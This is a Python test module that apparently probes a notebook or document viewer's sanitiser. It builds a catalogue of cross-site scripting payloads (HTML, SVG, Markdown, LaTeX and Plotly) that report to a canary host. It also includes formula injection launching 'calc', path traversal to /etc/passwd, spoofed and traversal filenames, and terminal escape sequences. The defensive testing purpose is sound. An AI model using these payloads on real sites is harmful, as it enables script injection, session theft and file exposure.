"""What a stranger may write, and where: the attacks by name.

Tokens are filled in by `armed`: HIT is an address of the canary that names the attack, BELL one at its door, WSHIT one
for sockets, STUN its host and port, RUN a piece of JavaScript without quotes and spaces that shows that it ran.
"""

from __future__ import annotations

import base64
from collections.abc import Mapping

from canary import Canary


def armed(text: str, name: str, canary: Canary) -> str:
    """The attack against this canary."""
    tokens = {
        "SVG64": base64.b64encode(SVG.encode()).decode(),
        "WSHIT": f"ws://{canary.host}/{name}",
        "//HIT": f"//{canary.host}/{name}",
        "HIT": f"http://{canary.host}/{name}",
        "BELL": f"http://{canary.door}/{name}",
        "STUN": canary.host,
        "RUN": f"alert(self.stranger=/{name}/.source)",
    }
    for token, value in tokens.items():
        if token == "SVG64":
            value = base64.b64encode(armed(SVG, f"{name}-svg", canary).encode()).decode() if token in text else ""
        text = text.replace(token, value)
    return text


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" '
    'onload="RUN"><script>RUN;fetch("HIT-script")</script><image href="HIT-image" width="9" height="9"/>'
    '<image xlink:href="HIT-xlink" width="9" height="9"/><use href="HIT-use#a"/><style>@import url(HIT-import);'
    "rect{fill:url(HIT-fill#a)}</style><foreignObject width='90' height='90'><iframe "
    "xmlns='http://www.w3.org/1999/xhtml' src='HIT-frame'/></foreignObject><rect width='9' height='9'/>"
    '<a href="javascript:RUN"><rect width="90" height="90"/></a><animate attributeName="href" to="HIT-animate"/></svg>'
)

HTML: Mapping[str, str] = {
    "script": "<script>RUN;fetch('HIT')</script>",
    "script-src": "<script src='HIT'></script>",
    "script-module": "<script type=module>import 'HIT'; RUN</script>",
    "script-import-map": '<script type=importmap>{"imports":{"a":"HIT"}}</script><script type=module>import "a"</script>',
    "script-speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["HIT"],'
    '"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["HIT"],"eagerness":"immediate"}]}</script>',
    "svg-onload": "<svg onload=RUN></svg>",
    "svg-script": "<svg><script>RUN</script><script href='HIT'/></svg>",
    "svg-image": "<svg><image href='HIT' xlink:href='HIT' width=9 height=9 /></svg>",
    "svg-use": "<svg><use href='HIT#a' /><use xlink:href='data:image/svg+xml;base64,SVG64#a' /></svg>",
    "svg-fe-image": "<svg><filter id=f><feImage href='HIT' /></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    "svg-fill": "<svg width=9 height=9><rect width=9 height=9 fill='url(HIT#a)' mask='url(HIT#b)' style='filter:url(HIT#c)'/></svg>",
    "svg-animate-onbegin": "<svg><animate onbegin=RUN attributeName=x dur=1s /><set onbegin=RUN attributeName=x /></svg>",
    "svg-animated-link": "<svg width=90 height=30><a><animate attributeName=href values='HIT;HIT' dur=99s begin=0s />"
    "<rect width=90 height=30 /></a></svg>",
    "svg-set-link": "<svg width=90 height=30><a><set attributeName=href to='HIT' begin=0s /><rect width=90 height=30 /></a></svg>",
    "svg-set-javascript": "<svg width=90 height=30><a href='#x'><set attributeName=href to='javascript:RUN' /><rect width=90 height=30 /></a></svg>",
    "svg-link": "<svg width=90 height=30><a xlink:href='javascript:RUN'><text y=20>press</text></a>"
    "<a href='HIT' target=_top><text y=20 x=40>press</text></a></svg>",
    "svg-foreign-object": "<svg><foreignObject width=90 height=90><img src='HIT' onerror=RUN><iframe srcdoc='<script>RUN</script>'>"
    "</iframe></foreignObject></svg>",
    "img-onerror": "<img src='HIT' onerror=RUN onload=RUN>",
    "img-srcset": "<img srcset='HIT 1x' sizes=1px><picture><source srcset='HIT'><img></picture>",
    "img-lazy": "<img loading=lazy src='HIT' lowsrc='HIT' longdesc='HIT'>",
    "img-attribution": "<img attributionsrc='HIT' src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>",
    "iframe": "<iframe src='HIT'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>RUN;top.location='HIT'</script><img src='HIT'>\"></iframe>",
    "iframe-javascript": "<iframe src='javascript:RUN'></iframe>",
    "iframe-data": "<iframe src=\"data:text/html,<script>RUN;fetch('HIT')</script><img src='HIT'>\"></iframe>",
    "frameset": "<frameset><frame src='HIT'></frameset><fencedframe></fencedframe><portal src='HIT'></portal>",
    "object": "<object data='HIT' type=text/html></object><object data=\"data:text/html,<img src='HIT'>\"></object>",
    "embed": "<embed src='HIT'><applet code='HIT' archive='HIT'></applet>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=HIT'>",
    "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='HIT'>",
    "meta-cookie": "<meta http-equiv=set-cookie content='stranger=1'><meta name=referrer content=unsafe-url>",
    "base": "<base href='HIT/'><base target=_top><img src=relative><a href=relative>press</a>",
    "form-autosubmit": "<form action='HIT' method=post><input name=a autofocus onfocus=this.form.submit()>"
    "<button>press</button><input type=image src='HIT' formaction='HIT'></form>",
    "form-clobber": "<form id=f><input name=attributes><input name=remove><input name=getAttribute><input name=parentNode>"
    "<img name=nodeName onerror=RUN src='HIT'></form><button form=f formaction='HIT'>press</button>",
    "dom-clobbering": "<a id=pdr></a><a id=pdr name=add href='HIT'></a><form name=body><input id=documentElement></form>"
    "<img name=currentScript><img name=querySelector><img name=createElement><iframe name=parent></iframe><a id=app></a>"
    "<div id=cell-0>stranger</div><main></main>",
    "link-stylesheet": "<link rel=stylesheet href='HIT'><link rel=icon href='HIT'><link rel=manifest href='HIT'>",
    "link-prefetch": "<link rel=prefetch href='HIT'><link rel=preload as=image href='HIT'><link rel=prerender href='HIT'>",
    "link-preconnect": "<link rel=preconnect href='HIT'><link rel=dns-prefetch href='HIT'>",
    "link-modulepreload": "<link rel=modulepreload href='HIT'><link rel=expect href='HIT'>",
    "css-url": "<style>b{background:url(HIT);list-style:url('HIT');cursor:url(HIT),auto}</style><b>text</b>",
    "css-import": "<style>@import 'HIT'; @import url(HIT) layer(a) supports(display:grid);</style>",
    "css-font": "<style>@font-face{font-family:s;src:url(HIT)}*{font-family:s}</style>text",
    "css-image-set": "<style>b{content:image-set('HIT' 1x);background-image:cross-fade(url(HIT),url(HIT),50%)}</style><b>t</b>",
    "css-attribute": "<p style=\"background:url('HIT');--a:url(HIT);mask:url(HIT#a)\">text",
    "css-escapes": "<style>b{background:\\75\\72\\6c(HIT)}</style><b>text</b><p style='background:u\\72l(HIT)'>text",
    "css-over-page": "<style>html,body{position:fixed;inset:0;z-index:9999}</style><div style='position:fixed;inset:-999px'>",
    "css-namespace": "<style>@namespace url(HIT); @document url(HIT){*{color:red}} *{behavior:url(HIT);-moz-binding:url(HIT)}</style>",
    "video": "<video src='HIT' poster='HIT' autoplay></video><audio src='HIT' autoplay onerror=RUN></audio>",
    "video-source": "<video><source src='HIT'><track default src='HIT'></video>",
    "table-background": "<body background='HIT'><table background='HIT'><tr><td background='HIT'>text</table>",
    "link-plain": "<a href='HIT'>press</a><a href='//HIT'>press</a><a href='HIT' target=_top>press</a>",
    "link-blank": "<a href='HIT' target=_blank rel=opener>press</a><a href='HIT' target=_parent>press</a>",
    "link-javascript": "<a href='javascript:RUN'>press</a><a href=' java\tscript:RUN'>press</a><a href='&#1;javascript:RUN'>press</a>",
    "link-vbscript-data": "<a href='data:text/html,<script>RUN</script>'>press</a><a href='vbscript:RUN'>press</a>",
    "link-download": "<a download='../evil.html' href='data:text/html,x'>press</a><a download href='HIT'>press</a>",
    "link-ping": "<a href='#' ping='HIT'>press</a><a href='#x' attributionsrc='HIT'>press</a>",
    "link-file": "<a href='file:///etc/passwd'>press</a><a href='blob:null/1'>press</a><a href='index.html'>press</a>",
    "link-area": "<img usemap=#m width=90 height=30 alt=x src='data:image/gif;base64,R0lGODlhAQABAAAAACw='><map name=m>"
    "<area shape=rect coords=0,0,90,30 href='HIT' ping='HIT' target=_top></map>",
    "handlers": "<div onmouseover=RUN onclick=RUN onpointerrawupdate=RUN style='width:99px;height:20px' tabindex=0 onfocus=RUN "
    "autofocus>press</div><details open ontoggle=RUN><summary>press</summary></details>",
    "handler-names": "<div/onclick=RUN>a</div><div\nONCLICK\n=RUN>b</div><a href='#'/onclick='RUN'>press</a>",
    "handlers-of-css": "<style>@keyframes k{to{opacity:.5}} u{animation:k 1s}</style><u onanimationstart=RUN onanimationend=RUN>a</u>"
    "<i style='transition:all 1s' ontransitionrun=RUN>b</i>",
    "handlers-of-page": "<body onload=RUN onpageshow=RUN onhashchange=RUN onmessage=RUN onresize=RUN>",
    "handlers-of-popover": "<button popovertarget=p onclick=RUN>press</button><div popover id=p onbeforetoggle=RUN ontoggle=RUN>p</div>",
    "dialog-open": "<dialog open oncancel=RUN><form method=dialog><button>press</button></form></dialog>",
    "marquee": "<marquee onstart=RUN loop=1 width=1>m</marquee><isindex action=HIT prompt=p><keygen autofocus onfocus=RUN>",
    "mutation-noscript": "<noscript><p title='</noscript><img src=HIT onerror=RUN>'>",
    "mutation-template": "<template><img src='HIT' onerror=RUN><script>RUN</script></template>",
    "mutation-shadow": "<div><template shadowrootmode=open><img src='HIT' onerror=RUN><iframe src='HIT'></iframe></template></div>",
    "mutation-math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=HIT onerror=RUN&gt;'>",
    "mutation-select": "<select><template><style></template></select><img src='HIT' onerror=RUN></style>",
    "mutation-annotation": "<math><annotation-xml encoding='text/html'><img src='HIT' onerror=RUN><script>RUN</script></annotation-xml></math>",
    "mutation-svg-style": "<svg></p><style><a id='</style><img src=HIT onerror=RUN>'>",
    "mutation-comment": "<!--><img src='HIT' onerror=RUN>--><!--!><img src='HIT' onerror=RUN>--!><img src='HIT' onerror=RUN>",
    "mutation-cdata": "<svg><![CDATA[><img src='HIT' onerror=RUN>]]></svg><xmp><img src='HIT'></xmp>",
    "mutation-plaintext": "<table><caption><plaintext><img src='HIT' onerror=RUN>",
    "mutation-nesting": "<div>" * 600 + "<form><form><img src='HIT' onerror=RUN>",
    "math-link": "<math href='javascript:RUN'><mi href='HIT' xlink:href='HIT'>press</mi><maction actiontype=statusline#HIT>m</maction></math>",
    "math-image": "<math><mglyph src='HIT'></mglyph><semantics><mi>x</mi><annotation-xml encoding='image/svg+xml'><svg onload=RUN />",
    "escape-element": "</div></section></main></body></html><img src='HIT' onerror=RUN><section class=cell id=cell-1>stranger",
    "escape-attribute": '" onmouseover="RUN" x="&quot;&gt;<img src=\'HIT\' onerror=RUN>',
    "pose-as-viewer": "<button data-rest='<img src=HIT onerror=RUN>'>press</button><div data-fragment='<img src=HIT onerror=RUN>'></div>"
    "<div data-figure='{\"data\":[]}'></div><div data-script='RUN'></div><a href='#x' data-link=9999999>press</a>",
}

MARKDOWN: Mapping[str, str] = {
    "markdown-html": "text <script>RUN</script> <img src=HIT onerror=RUN>\n\n<div onclick=RUN>\n\n**bold**\n\n</div>",
    "markdown-links": "[press](javascript:RUN) [press](JaVaScRiPt:RUN) <javascript:RUN> [press](data:text/html,x) [r][]\n\n[r]: HIT",
    "markdown-entities": "[press](<java&#115;cript:RUN>) [press](javascript&colon;RUN) [press](&#x6A;avascript:RUN)",
    "markdown-titles": "[press](HIT 'a\" onmouseover=\"RUN') ![x](data:, '\"><img src=HIT onerror=RUN>')",
    "markdown-images": "![a](HIT) ![b](//HIT) [![c](HIT)](HIT) ![d](attachment:none) ![e](x'onerror='RUN)",
    "markdown-svg-image": "![svg](data:image/svg+xml;base64,SVG64)",
    "markdown-fences": "```<img src=HIT onerror=RUN>\n<img src=HIT>\n```\n\n    <img src=HIT>\n\n`<img src=HIT>`",
    "markdown-autolinks": "http://HIT HIT www.HIT <HIT> <mailto:a@b.c?subject=HIT>",
    "markdown-headings": '# <img src=HIT onerror=RUN> [press](javascript:RUN)\n\n## cell-0\n\n[to](#cell-0) [to](#"][onclick)',
    "markdown-table": "| <img src=HIT onerror=RUN> | b |\n|---|---|\n| [press](javascript:RUN) | $\\href{javascript:RUN}{x}$ |",
    "markdown-formula": "$<img src=HIT onerror=RUN>$ $$\\text{<img src=HIT>}$$",
}

LATEX: Mapping[str, str] = {
    "latex-href": r"$\href{javascript:RUN}{press}$ $\url{javascript:RUN}$",
    "latex-image": r"$\includegraphics[alt=x]{HIT}$",
    "latex-html": r"$\htmlData{x=y}{a} \class{x}{b} \id{app}{c} \style{background:url(HIT)}{d} \data{x=y}{e}$",
    "latex-text": r"$\text{<img src=HIT onerror=RUN>}$ $\unicode{<script>RUN</script>}$",
    "latex-annotation": r"$</annotation></semantics></math><img src=HIT onerror=RUN>$",
    "latex-colour": r'$\color{red;background:url(HIT)}{x} \colorbox{"><img src=HIT onerror=RUN>}{y}$',
    "latex-macros": r"$\def\x{\x\x}\x$ $\newcommand{\__proto__}{1}\constructor$ $\rule{9999999em}{9999999em}$",
}

TEXTS: Mapping[str, str] = {
    "text-img": "<img src=HIT onerror=RUN>",
    "text-quotes": "\"'`><script>RUN</script>",
    "text-closing": "</title></textarea></style></script><script>RUN</script><svg/onload=RUN>",
    "text-string": "');RUN;('\\",
    "text-comment": "<!--<script>\u2028RUN\u2029]]>",
    "text-ansi": "\x1b]8;;javascript:RUN\x1b\\press\x1b]8;;\x1b\\\x1b[31;url(HIT)m<img src=HIT onerror=RUN>\x1b[0m",
    "text-title": "\x1b]0;stranger\x07\x1b]52;c;c3RyYW5nZXI=\x07\x9b31m\x07",
    "text-proto": "__proto__",
    "text-constructor": "constructor",
    "text-direction": "\u202egpj.exe\u2066<b onclick=RUN>",
    "text-path": "../../../etc/passwd",
    "text-link": "javascript:RUN",
    "text-template": "{{RUN}} ${RUN} <%= RUN %> #{RUN}",
    "text-formula": '=HYPERLINK("HIT","press")',
    "text-command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "text-handler": 'x" onmouseover="RUN" style="background:url(HIT)',
    "text-emoji": "\U0001f600\u200d\ufeff\udcff",
    "text-long": "<i>" + "long" * 5000,
}

PLOTLY: Mapping[str, str] = {
    "plotly-link": '<a href="javascript:RUN">press</a><a href="HIT" target="_top">press</a>',
    "plotly-markup": '<img src=HIT onerror=RUN><b onclick=RUN>b</b><span style="background:url(HIT)">s</span>',
    "plotly-script": "</text><script>RUN</script><foreignObject><iframe src=HIT></iframe></foreignObject>",
}

ARTIFACTS: Mapping[str, tuple[str, str]] = {
    "file-html": (
        "report.html",
        "<title>x</title><body onload=RUN><script>RUN;fetch('HIT')</script><img src=HIT><base href=HIT>",
    ),
    "file-svg": ("picture.svg", SVG),
    "file-svg-entities": (
        "entities.svg",
        '<?xml version="1.0"?><?xml-stylesheet href="HIT"?><!DOCTYPE svg [<!ENTITY x SYSTEM "HIT">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;</text></svg>',
    ),
    "file-xml": (
        "sheet.xml",
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="HIT"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>',
    ),
    "file-js": ("library.js", "RUN;fetch('HIT')"),
    "file-md": ("notes.md", "# <img src=HIT onerror=RUN>\n[press](javascript:RUN) ![x](HIT)\n<script>RUN</script>"),
    "file-csv": (
        "table.csv",
        'a,b\n"=HYPERLINK(""HIT"")",<img src=HIT onerror=RUN>\n@SUM(1),"</td><script>RUN</script>"\n',
    ),
    "file-json": ("data.json", '{"__proto__": {"stranger": 1}, "a": "</script><script>RUN</script>"}'),
    "file-pdf": ("paper.pdf", "%PDF-1.4 <script>RUN</script>"),
    "file-climbing": ("../../../evil.html", "<script>RUN</script>"),
    "file-quotes": ("a\"'><img src=HIT onerror=RUN>.txt", "text"),
    "file-direction": ("\u202egpj.exe", "text"),
    "file-proto": ("__proto__", "text"),
    "file-device": ("CON\x00\x1b[31m:stream|name?.txt", "text"),
    "file-desktop": (".bashrc", "text"),
}
